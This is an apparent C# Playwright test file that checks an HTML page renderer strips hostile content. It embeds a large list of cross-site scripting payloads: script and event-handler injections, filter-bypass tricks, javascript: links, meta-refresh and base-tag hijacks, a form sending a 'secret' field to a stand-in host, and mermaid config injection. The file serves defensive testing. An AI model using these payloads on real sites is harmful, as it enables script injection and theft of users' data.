using ConfluenceOps.Tests.Documents.Sqlite;
using ConfluenceOps.Tests.Permissions.Reporting;
using Microsoft.Playwright;
using static ConfluenceOps.Tests.Publishing.Library;

namespace ConfluenceOps.Tests.Publishing.Html;

/// <summary>Texts of people who mean harm, written here and so kept as they are, HTML and all.</summary>
public class HostileTextTests(Chromium chromium)
{
    /// <summary>Every one of them calls <c>owned</c>, asks elsewhere.example for something, or leads away, where a page lets it.</summary>
    private const string Attacks = """
        # Attacks

        <script>owned('script')</script>
        <SCRIPT SRC=https://elsewhere.example/a.js></SCRIPT>
        <scr<script>ipt>owned('nested')</scr</script>ipt>
        <img src=x onerror="owned('onerror')">
        <img src="https://elsewhere.example/pixel.png">
        <img srcset="https://elsewhere.example/set.png 2x" src="">
        <svg onload="owned('svg')"><script>owned('svg script')</script><a xlink:href="javascript:owned('svg link')"><text y="20">x</text></a></svg>
        <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=owned('mutation')&gt;"></table></mtext></math>
        <details open ontoggle="owned('toggle')"><summary>More</summary>words</details>
        <body onload="owned('body')"><iframe src="javascript:owned('frame')"></iframe><iframe srcdoc="<script>parent.owned('srcdoc')</script>"></iframe>
        <object data="https://elsewhere.example/o.swf"></object><embed src="https://elsewhere.example/e.swf">
        <meta http-equiv="refresh" content="0;url=https://elsewhere.example/refresh"><base href="https://elsewhere.example/">
        <link rel="stylesheet" href="https://elsewhere.example/s.css"><style>@import "https://elsewhere.example/i.css"; header { display: none }</style>
        <form action="https://elsewhere.example/form"><input name="secret" autofocus onfocus="owned('focus')"><button>Send</button></form>
        <p style="background: url(https://elsewhere.example/bg.png); position: fixed; inset: 0; width: expression(owned('style'))">styled</p>
        <video src="https://elsewhere.example/v.mp4" autoplay onloadstart="owned('video')"></video><audio src="https://elsewhere.example/a.mp3" autoplay></audio>
        <template><img src=x onerror="owned('template')"></template><noscript><p title="</noscript><img src=x onerror=owned('noscript')>"></noscript>
        <a href="javascript:owned('link')">raw link</a> <a href=" java&#x0A;script:owned('split')">split link</a>
        <header class="source">A banner of my own</header><div class="notice">Trusted</div>
        <xss onpointerenter="owned('unknown')" tabindex=1>unknown</xss>

        [markdown link](javascript:owned('markdown')) [data link](data:text/html,<script>owned('data')</script>) [vb](vbscript:owned('vb'))
        <javascript:owned('auto')>
        ![picture](javascript:owned('picture')) ![traced](https://elsewhere.example/traced.png)
        [defined][bad]

        [bad]: javascript:owned('defined') "x"

        ```mermaid
        flowchart LR
          a["<img src=x onerror=owned('label')>"] --> b[Safe]
          click a call owned("click")
          click b href "javascript:owned('href')"
        ```

        ```mermaid
        %%{init: {"securityLevel": "loose", "htmlLabels": true, "themeCSS": "header { display: none }", "fontFamily": "x;} header { display: none } .x{"}}%%
        flowchart LR
          c["<img src='https://elsewhere.example/mermaid.png'><script>owned('loose')</script>"] --> d
        ```

        The last words, {{scripts}} and {{text}}.
        """;

    [Fact]
    public async Task Nothing_in_a_text_runs_or_leads_away_or_asks_anybody_for_anything()
    {
        await using var library = await WithAsync(Page("1", "<script>owned('title')</script>{{banner}}", "<p>x</p>"));
        await library.Catalog.EditAsync(1, Attacks);
        await using var page = await OpenPage.OfAsync(chromium, library.Catalog, 1);
        await page.Page.EvaluateAsync("() => { window.owners = []; window.owned = how => window.owners.push(how); }");
        await page.DrawnAsync();

        foreach (var link in await page.Text.Locator("a:not([href^=http]), [tabindex], summary, .drawing g.node").AllAsync())
            await link.DispatchEventAsync("click");
        await page.Page.WaitForTimeoutAsync(300);

        Assert.Empty(await page.Page.EvaluateAsync<string[]>("window.owners"));
        Assert.StartsWith("file://", page.Page.Url, StringComparison.Ordinal);
        Assert.Empty(page.Outside);
        Assert.Empty(page.Surprises);
        Assert.Empty(page.Complaints);
        await Assertions.Expect(page.Text).ToContainTextAsync("The last words, {{scripts}} and {{text}}.");
        await Assertions.Expect(page.Text).ToContainTextAsync("styled");
    }

    [Fact]
    public async Task Of_what_could_act_nothing_is_left_in_the_page()
    {
        await using var library = await WithAsync(Page("1", "Attacks", "<p>x</p>"));
        await library.Catalog.EditAsync(1, Attacks);
        await using var page = await OpenPage.OfAsync(chromium, library.Catalog, 1);
        await page.DrawnAsync();

        Assert.Equal(0, await page.Text.Locator("script, style:not(svg style), iframe, object, embed, form, meta, base, link, video, audio, template, math, header, xss").CountAsync());
        Assert.Equal(0, await page.Page.EvaluateAsync<int>(
            "[...document.querySelectorAll('article *')].filter(e => [...e.attributes].some(a => /^on/i.test(a.name) || /javascript:|vbscript:|elsewhere.example\\/(?!pixel|traced|set)/i.test(a.value))).length"));
        Assert.Equal(0, await page.Page.EvaluateAsync<int>("[...document.querySelectorAll('article [style]')].filter(e => !e.closest('svg')).length"));
        Assert.Equal(0, await page.Page.EvaluateAsync<int>("[...document.querySelectorAll('article img')].filter(e => !e.src.startsWith('data:')).length"));
        Assert.Equal(0, await page.Text.Locator(".source, .notice").CountAsync());
        await Assertions.Expect(page.Banner).ToBeVisibleAsync();
        await Assertions.Expect(page.Banner.Locator("h1")).ToHaveTextAsync("Attacks");
    }

    [Fact]
    public async Task The_browser_itself_would_run_and_fetch_nothing_that_got_through()
    {
        await using var library = await WithAsync(Page("1", "Start", "<p>x</p>"));
        await using var page = await OpenPage.OfAsync(chromium, library.Catalog, 1);

        await page.Page.EvaluateAsync("document.body.append(Object.assign(document.createElement('script'), { textContent: \"document.title = 'taken'\" }))");
        await page.Page.EvaluateAsync("document.body.append(Object.assign(new Image(), { src: 'https://elsewhere.example/pixel.png' }))");
        await page.Page.EvaluateAsync("document.body.setAttribute('onclick', \"document.title = 'taken'\")");
        await page.Page.Locator("article").ClickAsync();

        await Assertions.Expect(page.Page).ToHaveTitleAsync("Start");
        Assert.Contains(page.Complaints, text => text.Contains("script-src", StringComparison.Ordinal));
        Assert.Contains(page.Complaints, text => text.Contains("img-src", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("<b>", 20_000)]
    [InlineData("<div>", 20_000)]
    [InlineData("> ", 20_000)]
    [InlineData("[", 20_000)]
    [InlineData("- ", 5_000)]
    [InlineData("<table><tr><td>", 5_000)]
    public async Task A_text_that_is_deeper_than_any_stack_still_becomes_a_page(string opening, int depth)
    {
        await using var library = await WithAsync(Page("1", "Deep", "<p>x</p>"));
        await library.Catalog.EditAsync(1, string.Concat(Enumerable.Repeat(opening, depth)) + "bottom");

        var page = await new ConfluenceOps.Publishing.Html.DocumentHtml(library.Catalog).RenderAsync(1, TestContext.Current.CancellationToken);

        Assert.Contains("bottom", page.Html, StringComparison.Ordinal);
        Assert.EndsWith("</html>\n", page.Html, StringComparison.Ordinal);
    }
}
